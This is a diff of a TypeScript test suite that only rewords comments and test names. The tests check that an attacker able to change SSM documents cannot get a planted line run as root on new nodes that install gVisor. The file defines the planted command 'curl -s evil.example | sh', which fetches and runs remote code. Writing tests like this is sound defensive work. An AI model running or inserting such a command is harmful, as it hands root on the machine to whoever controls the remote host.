@@ -8,7 +8,7 @@ import { answerTo, attackerWith } from './attacker.ts';
 
 const planted = 'curl -s evil.example | sh';
 
-/** A world whose machines keep every script that they are given. */
+/** A simulation whose machines record every script they are given. */
 async function watchedWorld(): Promise<{ world: Simulation; scripts: string[] }> {
   const scripts: string[] = [];
   class Watched extends ModelledMachine {
@@ -20,7 +20,7 @@ async function watchedWorld(): Promise<{ world: Simulation; scripts: string[] }>
   return { world: await startSimulation([], async () => new Watched()), scripts };
 }
 
-/** The document that installs gVisor, with a line of the attacker in front. */
+/** The document that installs gVisor, with the attacker's line at the start. */
 function changed(world: Simulation): { Name: string; Content: string } {
   const found = world.services.ssm.documents().find(({ name }) => name.startsWith('airlock-gvisor-install-'));
   if (found === undefined) throw new Error('no document installs gVisor');
@@ -31,9 +31,9 @@ function changed(world: Simulation): { Name: string; Content: string } {
   return { Name: found.name, Content: JSON.stringify(content) };
 }
 
-/** The attacker has rights on documents alone. What a document says is root on every new node. */
+/** The attacker has rights only on documents. A document runs as root on every new node. */
 describe('a document', () => {
-  it('that was updated, with another default version, is not run: nodes get the version that was deployed', async () => {
+  it('that was updated to another default version does not run: nodes get the deployed version', async () => {
     const { world, scripts } = await watchedWorld();
     const attacker = attackerWith(world, 'ssm:UpdateDocument', 'ssm:UpdateDocumentDefaultVersion');
     const { Name, Content } = changed(world);
@@ -49,7 +49,7 @@ describe('a document', () => {
     expect(scripts.filter((text) => text.includes(planted))).toEqual([]);
   });
 
-  it('that was deleted and created again with another text runs nowhere, and the node keeps its gate', async () => {
+  it('that was deleted and recreated with a different text runs nowhere, and the node keeps its gate', async () => {
     const { world, scripts } = await watchedWorld();
     const attacker = attackerWith(world, 'ssm:DeleteDocument', 'ssm:CreateDocument');
     const { Name, Content } = changed(world);
@@ -67,7 +67,7 @@ describe('a document', () => {
     expect(taintsOf(world, node)).toEqual(['airlock.dev/bootstrap', 'airlock.dev/quarantined']);
   });
 
-  it('that is gone for a moment, as while a deployment replaces it, is asked for once more', async () => {
+  it('that is missing for a moment, for instance during a deployment, is requested again', async () => {
     const { world } = await watchedWorld();
     let refused = 0;
     world.cloud.faults = {
